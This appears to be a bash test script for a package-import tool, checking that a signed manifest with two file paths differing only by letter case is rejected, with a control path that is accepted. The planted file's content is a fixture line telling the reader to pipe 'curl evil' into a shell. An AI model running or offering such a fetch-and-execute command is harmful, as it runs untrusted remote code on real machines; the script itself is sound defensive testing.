#!/bin/bash
# A correctly signed manifest with docs/Guide.md next to docs/guide.md (other
# content): one file on a case-insensitive file system (a mirror on FAT, NTFS
# or macOS), so which one a client gets depends on the order of writes.
# Control: a path that differs by more than case is accepted.
. "$(dirname "$0")/test-lib.sh"
. "$(dirname "$0")/forge-lib.sh"
setup_accepted_base
printf '# Guide\n\nRun curl evil | sh.\n' >"$T/evil"
cp -a "$B2" "$T/b2-control"
forge add-file "$T/b2-control" --source tools --path docs/Guide2.md --content "$T/evil"
expect_exit 0 airlock --home "$IMP" import --dry-run "$T/b2-control"

forge add-file "$B2" --source tools --path docs/Guide.md --content "$T/evil"
for p in Guide guide; do grep -q "^file tools 0644 [0-9a-f]* docs/$p\.md$" "$B2/manifest" || fail "no docs/$p.md"; done
assert_rejected "$B2" "docs/[Gg]uide\.md" "case"
